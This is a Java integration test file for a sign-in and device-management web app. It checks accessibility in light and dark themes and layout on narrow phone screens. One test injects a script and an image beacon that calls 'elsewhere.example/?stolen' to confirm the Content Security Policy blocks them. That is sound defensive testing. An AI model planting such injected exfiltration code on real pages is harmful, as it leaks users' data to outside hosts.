package dev.sojourn.it.pages;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sojourn.it.Accounts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What holds for both pages. */
class PagesIT extends OnPages {

    private final String name = Accounts.fresh();

    @ParameterizedTest
    @ValueSource(strings = {"light", "dark"})
    void sign_in_has_no_barriers(String theme) {
        browser.prefer(theme);
        browser.open(page("?reason=idle"));
        browser.see("#reason .notice");
        browser.see("#form");
        assertThat(browser.barriers()).isEmpty();

        browser.click("#submit");
        browser.see("#password-error", "Enter");
        assertThat(browser.barriers()).as("with empty fields").isEmpty();

        submit(browser, name, "wrong");
        browser.see("#error .notice");
        assertThat(browser.barriers()).as("after a wrong password").isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"light", "dark"})
    void signed_in_has_no_barriers(String theme) {
        browser.prefer(theme);
        signInAt(browser, name);
        browser.open(server);
        browser.see("#signed-in-view");

        assertThat(browser.barriers()).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"light", "dark"})
    void devices_have_no_barriers(String theme) {
        signedInWith(AGENT_IPHONE, name);
        signedInWith(AGENT_EDGE, name);
        browser.prefer(theme);
        signInAt(browser, name);
        assertThat(browser.barriers()).isEmpty();

        browser.click("#others summary");
        browser.see("#others details dl");
        assertThat(browser.barriers()).as("with details").isEmpty();

        browser.click("#end-others");
        browser.see("#confirm");
        assertThat(browser.barriers()).as("with the question").isEmpty();

        browser.click("#confirm-yes");
        browser.see("#none");
        assertThat(browser.barriers()).as("without other devices").isEmpty();
    }

    @Test
    void both_themes_differ() {
        browser.prefer("light");
        openSignIn(browser);
        Object light = browser.run("return getComputedStyle(document.body).backgroundColor");
        browser.prefer("dark");

        assertThat(browser.run("return getComputedStyle(document.body).backgroundColor"))
                .isNotEqualTo(light);
    }

    @ParameterizedTest
    @ValueSource(ints = {320, 390})
    void telephone_shows_all_without_scrolling_sideways(int width) {
        signedInWith(AGENT_IPHONE, name);
        signedInWith("x".repeat(500), name);
        browser.telephone(width);
        browser.open(page("?reason=theft"));
        browser.see("#reason .notice");
        assertThat(sideways()).isZero();

        signInAt(browser, name);
        browser.run("document.querySelectorAll('details').forEach(each => each.open = true)");
        browser.see("#others details dl");
        assertThat(sideways()).isZero();

        browser.click("#end-others");
        browser.see("#confirm");
        assertThat(sideways()).isZero();
    }

    /** How many pixels of the page lie outside of the screen's width. */
    private long sideways() {
        return (Long) browser.run(
                "return Math.max(document.documentElement.scrollWidth, document.body.scrollWidth) - window.innerWidth");
    }

    @Test
    void script_that_gets_into_a_page_neither_runs_nor_calls_home() {
        openSignIn(browser);
        browser.run("const script = document.createElement('script');"
                + "script.textContent = 'document.title = `owned`';"
                + "document.body.append(script);"
                + "const picture = new Image();"
                + "picture.id = 'picture';"
                + "picture.onerror = () => picture.alt = 'refused';"
                + "picture.src = 'http://elsewhere.example/?stolen';"
                + "document.body.append(picture);");
        browser.until(
                "the picture is refused",
                any -> browser.all("#picture[alt=refused]").size() == 1);

        assertThat(browser.title()).isEqualTo("Sign in · Sojourn");
        assertThat(browser.complaints())
                .anySatisfy(message -> assertThat(message).contains("Content Security Policy", "script-src"))
                .anySatisfy(message -> assertThat(message).contains("Content Security Policy", "img-src"));
        assertThat(browser.requests())
                .noneMatch(
                        request -> "elsewhere.example".equals(request.address().getHost()));
    }
}
